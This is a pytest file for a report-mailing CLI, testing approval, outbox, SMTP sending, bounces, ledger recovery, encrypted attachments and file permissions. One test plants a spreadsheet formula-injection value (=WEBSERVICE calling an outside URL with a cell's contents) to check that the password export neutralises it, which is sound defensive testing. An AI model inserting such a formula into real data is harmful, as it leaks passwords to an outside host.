"""The commands of the mail as a person gives them, on a real report: what they print and how they end."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from support.bounced import report
from support.mailroom import DROP, Office, serving
from support.tiny import TINY

from reports.cli import main
from reports.mail import message, smtp
from reports.mail.ledger import Ledger

pytestmark = pytest.mark.filterwarnings("ignore:Requiring AUTH")

MAIL = '\n[mail]\nfrom = "badanie@example.org"\nfrom_name = { pl = "Zespół badania" }\n'


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small edition with one finished report, made by the program itself."""
    folder = tmp_path_factory.mktemp("mail")
    (folder / "edition").mkdir()
    for name, text in TINY.items():
        # Short names that no sentence of a report has.
        told = text.replace("Pierwszy,pl", "Olcha,pl").replace("Trzeci,,", "Wiąz,,")
        told += MAIL if name == "edition.toml" else ""
        (folder / "edition" / name).write_text(told, encoding="utf-8")
    result = CliRunner().invoke(
        main.main, ["build", str(folder / "edition"), "K01", "-j", "1", "-o", str(folder / "out")]
    )
    assert result.exit_code == 0, result.output
    return folder


Run = Callable[..., Result]


@pytest.fixture
def folder(built: Path, tmp_path: Path) -> Path:
    shutil.copytree(built, tmp_path / "work")
    return tmp_path / "work"


@pytest.fixture
def run(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    """Runs a command in the folder; ``status`` is the exit status that is expected."""
    monkeypatch.chdir(folder)

    def call(*arguments: str, status: int = 0, given: str | None = None) -> Result:
        result = CliRunner().invoke(main.main, list(arguments), input=given)
        assert result.exit_code == status, result.output
        assert "mistake of the program" not in result.output
        return result

    return call


def mail(folder: Path, lines: str) -> None:
    """Other settings under [mail]."""
    file = folder / "edition" / "edition.toml"
    text = re.sub(r"\n\[mail\].*", "", file.read_text(encoding="utf-8"), flags=re.DOTALL)
    file.write_text(f"{text}{MAIL}{lines}\n", encoding="utf-8")


def server(port: int, more: str = "") -> str:
    return f'host = "localhost"\nsecurity = "none"\nport = {port}\nrate = 600\nattempts = 1\n{more}'


def test_from_the_outbox_to_the_real_thing(folder: Path, run: Run) -> None:
    """The way of the README: approve, dry run, outbox, rehearsal, real, once more, status, export."""
    said = run("send", "edition", "K01", "--dry-run", status=1).output
    assert "K01: nothing: not approved" in said
    assert 'Next: K01: look, then: cluster-reports approve edition K01 --by "YOUR NAME"' in said
    said = run("approve", "edition", "K01", "--by", "Anna Nowak").output
    assert re.search(r"K01: [0-9a-f]{12} for anna@example\.org", said)
    assert "Approved by Anna Nowak: 1 of 1 report" in said
    said = run("send", "edition", "K01", "--dry-run").output
    assert re.search(
        r"K01: anna@example\.org, \d+ kB, Badanie klastrów \(2018\) – raport klastra: Olcha", said
    )
    assert "Dry run, nothing was sent: 1 message" in said
    assert not (folder / "out" / "tiny-2018" / "outbox").exists()
    said = run("send", "edition", "K01").output
    assert "Written 1, 0 not, as files in the outbox; nobody has got anything" in said
    parts = message.read((folder / "out" / "tiny-2018" / "outbox" / "K01.eml").read_bytes())
    assert parts.attachments[0][1] == (folder / "out" / "tiny-2018" / "reports" / "K01.pdf").read_bytes()
    assert "OUTBOX" in run("status", "edition").output
    office = Office()
    with serving(office) as port:
        mail(folder, server(port))
        said = run("send", "edition", "K01", "--smtp", "--redirect", "ja@example.org", given="1\n").output
        assert "1 message through localhost to the test address ja@example.org. Type 1 to send" in said
        assert "Sent 1, 0 not, through the mail server, as a rehearsal all to ja@example.org" in said
        said = run("send", "edition", "K01", "--smtp", given="yes\n", status=1).output
        assert "not confirmed; nothing was sent" in said
        assert "1 of them also lie in out/tiny-2018/outbox" in said
        said = run("send", "edition", "K01", "--smtp", given="1\n").output
        assert "to the coordinators, for real" in said
        assert "Sent 1, 0 not, through the mail server" in said
        said = run("send", "edition", "K01", "--smtp").output
        assert "Sent 0, 1 before, 0 not" in said
    assert office.recipients == ["ja@example.org", "anna@example.org"]
    said = run("status", "edition").output
    assert re.search(r"K01 .*current .*yes .*SENT", said)
    assert re.search(r"K01, mail: \d{4}-\d\d-\d\d \d\d:\d\d UTC to anna@example\.org: 250 accepted", said)
    state = json.loads(run("status", "edition", "--json").output)["clusters"][0]
    assert (state["approval"]["state"], state["mail"]["state"]) == ("yes", "SENT")
    run("export", "edition")
    value = json.loads((folder / "out" / "tiny-2018" / "evidence.json").read_text(encoding="utf-8"))
    assert [one["channel"] for one in value["messages"]] == [
        "outbox",
        "rehearsal smtp ja@example.org",
        "smtp",
    ]
    run("export", "edition", "evidence.csv")
    assert (folder / "evidence.csv").read_text(encoding="utf-8-sig").startswith("cluster,name,channel")
    run("export", "edition", "evidence.txt", status=2)


def test_what_would_say_something_else_now_is_not_sent(folder: Path, run: Run) -> None:
    """A value mended after the build: neither approved nor sent before it is built again."""
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    values = folder / "edition" / "values.csv"
    values.write_text(values.read_text(encoding="utf-8").replace("K01,120", "K01,121"), encoding="utf-8")
    said = run("send", "edition", "K01", status=1).output
    assert "K01: nothing: the report would say something else now" in said
    said = run("approve", "edition", "K01", "--by", "Anna Nowak", status=1).output
    assert "K01: not approved\n    the report would say something else now" in said


def test_the_settings_of_the_mail_do_not_age_a_report(folder: Path, run: Run) -> None:
    """Another sender is no other report."""
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    mail(folder, 'reply_to = "pytania@example.org"')
    run("send", "edition", "K01")


def test_one_changed_byte_ends_with_status_1(folder: Path, run: Run) -> None:
    """The file, the cluster and the cause are named."""
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    path = folder / "out" / "tiny-2018" / "reports" / "K01.pdf"
    data = bytearray(path.read_bytes())
    data[-20] ^= 1
    path.write_bytes(data)
    said = run("send", "edition", "K01", status=1).output
    assert "K01: nothing: " in said
    assert "is not the file that was built and checked" in said


def test_all_clusters_are_named_when_only_some_go(folder: Path, run: Run) -> None:
    """The others are not built or have no address: a line for each, status 1; the one that can go goes."""
    run("approve", "edition", "--by", "Anna Nowak", status=1)
    said = run("send", "edition", status=1).output
    assert "K02: nothing: the edition has no e-mail address" in said
    assert "Written 1, 3 not" in said


def test_a_case_is_resolved_by_a_person(folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """UNKNOWN is due again or closed only when somebody says so, and their name is kept."""
    monkeypatch.setattr(smtp.Patience, "__init__", _hasty(smtp.Patience.__init__))
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    with serving(Office({"dot": [DROP]})) as port:
        mail(folder, server(port))
        said = run("send", "edition", "K01", "--smtp", "--yes", status=1).output
        assert "K01: UNKNOWN, anna@example.org: the connection broke before the server answered" in said
        said = run("send", "edition", "K01", "--smtp", "--yes", status=1).output
        assert "cluster-reports resolve K01 --not-delivered --edition tiny-2018 --by" in said
        run("resolve", "K01", "--by", "Jan Lis", status=2)
        said = run("resolve", "K01", "--not-delivered", "--by", "Jan Lis").output
        assert "K01: READY, due again, says Jan Lis" in said
        run("send", "edition", "K01", "--smtp", "--yes")
        run("resolve", "K01", "--delivered", "--by", "Jan Lis", status=2)
    with Ledger(folder / "out" / "tiny-2018") as ledger:
        assert [event.by for event in ledger.events() if event.by] == ["Jan Lis"]


def _hasty(real: Any) -> Any:
    def init(self: Any, **fields: float) -> None:
        real(self, **{"connect": 2.0, "command": 2.0, "message": 2.0, "first_wait": 0.01} | fields)

    return init


def test_bounces_are_found_and_end_with_status_1(folder: Path, run: Run) -> None:
    """What came back is named; what is not ours is counted; a second look notes nothing twice."""
    run("bounces", "none.mbox", status=2)
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    with serving(Office()) as port:
        mail(folder, server(port))
        run("send", "edition", "K01", "--smtp", "--yes")
    with Ledger(folder / "out" / "tiny-2018") as ledger:
        envelope = ledger.latest("smtp")["K01"].envelope_id
    (folder / "out" / "README.md").write_text("What is built", encoding="utf-8")  # belongs to no edition
    (folder / "returned").mkdir()
    (folder / "returned" / "1.eml").write_bytes(report(envelope))
    (folder / "returned" / "2.eml").write_bytes(report("CRstranger"))
    said = run("bounces", "returned", status=1).output
    assert "K01: failed: biuro@k01.example.org 5.1.1" in said
    assert "1 report on our messages, 1 came back; 1 on other messages ignored" in said
    (folder / "returned" / "3.eml").write_bytes(
        report("CR3").replace(b"rfc822;biuro+40k01.example.org", b"rfc822;anna@example.org")
    )
    (folder / "returned" / "4.pdf").write_bytes(b"%PDF")
    said = run("bounces", "returned", status=1).output
    assert '3.eml: "Undelivered Mail Returned to Sender", it quotes no id of ours' in said
    assert "it names anna@example.org (K01)" in said
    assert "4.pdf: it is no mail" in said
    assert "2 mails not understood, look at them" in said
    assert "K01: failed (known)" in run("bounces", "returned", status=1).output
    assert "BOUNCED" in run("status", "edition").output
    run("resolve", "K01", "--delivered", "--by", "Anna Nowak")
    assert re.search(r"K01 .*SENT", run("status", "edition").output)


def test_encrypted_copies_and_their_passwords(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attachment opens with the password of the list and not without; the list is private, and neither
    passwords nor secret are in any other file or on the screen.
    """
    import io

    import pikepdf

    mail(folder, "encrypt = true")
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    said = run("send", "edition", "K01", status=2).output
    assert "CLUSTER_REPORTS_PASSWORD_SECRET" in said
    monkeypatch.setenv("CLUSTER_REPORTS_PASSWORD_SECRET", "a secret of more than twenty signs")
    said = run("send", "edition", "K01").output + run("passwords", "edition", "passwords.csv").output
    listed = folder / "passwords.csv"
    assert listed.stat().st_mode & 0o777 == 0o600
    rows = list(csv.DictReader(listed.read_text(encoding="utf-8-sig").splitlines()))
    assert [row["id"] for row in rows] == ["K01", "K02", "K03", "K04"]
    parts = message.read((folder / "out" / "tiny-2018" / "outbox" / "K01.eml").read_bytes())
    assert "Plik jest zaszyfrowany" in parts.text
    word = rows[0]["password"]
    with pikepdf.open(io.BytesIO(parts.attachments[0][1]), password=word) as file:
        assert file.encryption.R == 6
    run("passwords", "edition", "passwords.csv", status=2)
    assert word not in said
    for path in folder.rglob("*"):
        if path.is_file() and path != listed:
            assert word.encode() not in path.read_bytes()
            assert b"a secret of more than twenty" not in path.read_bytes()


def test_a_ledger_that_was_restored_stops_the_mail(folder: Path, run: Run) -> None:
    """Nothing goes twice; a person looks, accepts it by name, and what may be out waits for its answer."""
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    shutil.copytree(folder / "out" / "tiny-2018" / "mail", folder / "backup")
    office = Office()
    with serving(office) as port:
        mail(folder, server(port))
        run("send", "edition", "K01", "--smtp", "--yes")
        shutil.rmtree(folder / "out" / "tiny-2018" / "mail")
        shutil.copytree(folder / "backup", folder / "out" / "tiny-2018" / "mail")
        for command in (("send", "edition", "--smtp", "--yes"), ("send", "edition", "--dry-run")):
            told = run(*command, status=2).output
            assert "K01 SENT" in told
            assert "ledger EDITION --accept" in told
        assert "K01: SENT" in run("ledger", "edition", status=1).output
        assert "1 message UNKNOWN until resolved" in run("ledger", "edition", "--accept", "Anna Nowak").output
        assert "is the one that was used last" in run("ledger", "edition").output
        assert "nobody knows" in run("send", "edition", "K01", "--smtp", "--yes", status=1).output
    assert len(office.accepted) == 1


def test_the_ledger_of_nothing(run: Run) -> None:
    """Before anything was approved there is none."""
    assert "nothing was approved or sent" in run("ledger", "edition", status=2).output


def test_a_home_that_cannot_be_written_is_said(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """Sending works, and says what it cannot notice."""
    monkeypatch.setattr("reports.production.record.own_folder.ready", lambda: None)
    assert (
        "the key that it was sealed with is not here"
        in run("approve", "edition", "K01", "--by", "Anna Nowak", status=2).output
    )
    run("build", "edition", "K01", "-j", "1")
    assert (Path("out") / "tiny-2018" / "mail" / "seal.key").stat().st_mode & 0o777 == 0o600
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    told = run("send", "edition", "K01")
    assert "CLUSTER_REPORTS_STATE" in told.output
    assert "Written 1" in told.output


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("send", "edition", "--smtp"), "names no mail server"),
        (("send", "edition", "--redirect", "x"), "this is not one e-mail address"),
        (("send", "edition", "--redirect", "ANNA@example.org"), "is the address of the cluster K01"),
        (("send", "edition", "--again"), "--again needs the IDs"),
        (("send", "edition", "K99"), "has no cluster 'K99'"),
        (("send", "edition", "-o", "nowhere"), "nothing is built"),
        (("approve", "edition", "--by", "a\nb\x00"), "--by needs the name"),
        (("approve", "edition", "--by", " "), "--by needs the name"),
        (("resolve", "K01", "--delivered", "--by", "A", "-o", "nowhere"), "nothing was sent from nowhere"),
        (("bounces", "edition", "-o", "nowhere"), "nothing was sent from nowhere"),
        (("export", "edition", "-o", "nowhere"), "nothing was approved or sent"),
        (("passwords", "edition", "p.csv"), "CLUSTER_REPORTS_PASSWORD_SECRET"),
    ],
)
def test_what_cannot_be_done_is_said_before_anything_happens(
    run: Run, folder: Path, arguments: tuple[str, ...], words: str
) -> None:
    """Exit status 2, the cause and the next step; nothing is written."""
    before = sorted(folder.rglob("*"))
    assert words in run(*arguments, status=2).output
    assert [p for p in sorted(folder.rglob("*")) if "mail" not in p.parts] == before


@pytest.mark.skipif(os.name == "nt", reason="Windows has other rights")
def test_nobody_else_of_the_computer_reads_what_is_made(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """From the first report to the list of passwords, all that is written and all that others could read
    before is the owner's alone, even where the user lets everybody read and write new files.
    """
    places = (folder / "out" / "tiny-2018", folder / "temporary")
    places[1].mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(places[1]))
    monkeypatch.setenv("CLUSTER_REPORTS_PASSWORD_SECRET", "a secret of more than twenty signs")
    for path in (places[0], *(path for path in places[0].rglob("*") if path.is_dir())):
        path.chmod(0o755)
    before = os.umask(0)
    try:
        run("build", "edition", "K01", "K03", "--force", "-j", "1")
        run("cards", "edition", "K01", "-j", "1")
        run("summary", "edition")
        run("approve", "edition", "K01", "--by", "Anna Nowak")
        run("send", "edition", "K01")
        run("export", "edition")
        run("passwords", "edition", "passwords.csv")
        run("scores", "edition", "-o", "scores.xlsx")
    finally:
        os.umask(before)
    made = [*places[0].rglob("*"), *places[1].rglob("*"), folder / "passwords.csv", folder / "scores.xlsx"]
    names = {path.name for path in made}
    assert {"K01.pdf", "K03.html", "scores.csv", "manifest.json", "K01.eml", "evidence.csv", ".lock"} <= names
    for path in (places[0], *made):
        assert path.stat().st_mode & 0o077 == 0, path


def test_no_list_runs_what_stands_in_it(folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """A coordinator called like a formula stands beside the passwords, and is a text there."""
    name = '=WEBSERVICE("http://example.org/"&D2)'
    clusters = folder / "edition" / "clusters.csv"
    quoted = '"' + name.replace('"', '""') + '"'
    clusters.write_text(clusters.read_text("utf-8").replace("Anna Nowak", quoted), "utf-8")
    monkeypatch.setenv("CLUSTER_REPORTS_PASSWORD_SECRET", "a secret of more than twenty signs")
    run("passwords", "edition", "passwords.csv")
    lines = (folder / "passwords.csv").read_text("utf-8-sig").splitlines()
    assert next(csv.DictReader(lines))["coordinator"] == f"'{name}"


def test_what_to_do_next_can_be_typed(folder: Path, run: Run) -> None:
    """Each command that `send` and the dry run propose is taken as it stands, and helps."""
    import shlex

    def steps(said: str) -> list[list[str]]:
        lines = [line for line in said.splitlines() if line.startswith(("Next:", "    "))]
        found = [line[line.index("cluster-reports ") :] for line in lines if "cluster-reports " in line]
        return [shlex.split(command)[1:] for command in found]

    (approve,) = steps(run("send", "edition", "K01", "--dry-run", status=1).output)
    run(*approve)
    refuse = {"rcpt": ["550 5.1.1 no such user"]}
    with serving(Office(refuse)) as port:
        mail(folder, server(port))
        said = run("send", "edition", "K01", "--smtp", "--yes", status=1).output
        approve, later, again = steps(said)
        assert again == ["send", "edition", "K01", "--smtp", "--again"]
        assert later == ["send", "edition", "K01", "--smtp"]
        run(*approve)
        run(*again, "--yes")
    with serving(Office({"dot": [DROP]})) as port:
        mail(folder, server(port))
        said = run("send", "edition", "K01", "--smtp", "--yes", "--again", status=1).output
        delivered, not_delivered = steps(said)
        run(*not_delivered)
        assert "READY" in run("status", "edition").output
        run("send", "edition", "--state", "READY", "--smtp", "--yes")
        run(*delivered, status=2)
        run("send", "edition", "--state", "REJECTED", "--smtp", status=2)


def test_the_dry_run_shows_what_all_messages_have_in_common(folder: Path, run: Run) -> None:
    """Sender, answers, returned messages, archive, encryption, signature; also as JSON."""
    more = 'reply_to = "pytania@example.org"\nbounces = "zwroty@example.org"\nbcc = "archiwum@example.org"'
    mail(folder, more)
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    said = run("send", "edition", "K01", "--dry-run").output
    assert (
        "Each from badanie@example.org, answers to pytania@example.org, returned messages to "
        "zwroty@example.org, a copy of each to archiwum@example.org; attachments not encrypted, not signed; "
        "the seal of the record holds"
    ) in said
    told = json.loads(run("send", "edition", "K01", "--dry-run", "--json").output)["messages"]
    assert (told["archive"], told["encrypted"]) == ("archiwum@example.org", False)
    said = run("send", "edition", "K01", "--dry-run", "--redirect", "ja@example.net").output
    assert "no copy to an archive" in said


def test_the_edition_is_looked_at_again_while_the_question_waits(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Somebody saves another address between the question and the answer: nothing goes."""
    import click

    office = Office()
    table = folder / "edition" / "clusters.csv"

    def prompt(*_: Any, **__: Any) -> str:
        text = table.read_text(encoding="utf-8")
        table.write_text(text.replace("anna@example.org", "ewa@example.org"), encoding="utf-8")
        return "1"

    run("approve", "edition", "K01", "--by", "Anna Nowak")
    with serving(office) as port:
        mail(folder, server(port))
        monkeypatch.setattr(click, "prompt", prompt)
        said = run("send", "edition", "K01", "--smtp", status=1).output
    assert "the address was changed after Anna Nowak approved the report for anna@example.org" in said
    assert not office.accepted


def test_an_outbox_that_lags_behind_is_called_so(folder: Path, run: Run) -> None:
    """Another setting, another build, a changed file: `status` says so until it is written anew."""
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    run("send", "edition", "K01")
    assert re.search(r"K01 .*OUTBOX$", run("status", "edition").output, re.MULTILINE)
    mail(folder, 'reply_to = "pytania@example.org"')
    assert re.search(r"K01 .*OUTBOX \(outdated\)", run("status", "edition").output)
    run("send", "edition", "K01")
    assert re.search(r"K01 .*OUTBOX$", run("status", "edition").output, re.MULTILINE)
    run("approve", "edition", "K01", "--withdraw", "--by", "Anna Nowak")
    assert "OUTBOX (outdated)" in run("status", "edition").output
    said = run("send", "edition", "K01", status=1).output
    assert "Removed, it did not hold any more: out/tiny-2018/outbox/K01.eml" in said
    assert "OUTBOX" not in run("status", "edition").output


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "is missing"),
        (b"\x82\x00\xff no text", "holds no text"),
        (b"-----BEGIN CERTIFICATE-----\nMIIB\n", "openssl pkcs12"),
        (b"\x30\x82\x01\x02 not really", "cannot be opened"),
        (b"/nowhere/key.p12\n", "cannot be read"),
        (None, "cannot be read"),
    ],
)
def test_a_certificate_is_taken_as_people_name_it(
    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch, content: bytes | None, words: str
) -> None:
    """The variable names the certificate itself or a file with its path; anything else is told in a line."""
    run("approve", "edition", "K01", "--by", "Anna Nowak")
    mail(folder, "sign = true")
    path = folder / "key"
    if content is None:
        path.mkdir(0o700)
    else:
        path.write_bytes(content)
        path.chmod(0o600)
    monkeypatch.setenv("CLUSTER_REPORTS_SIGNING_KEY_FILE", str(path))
    monkeypatch.setenv("CLUSTER_REPORTS_SIGNING_PASSWORD", "pw")
    assert words in run("send", "edition", "K01", status=2).output
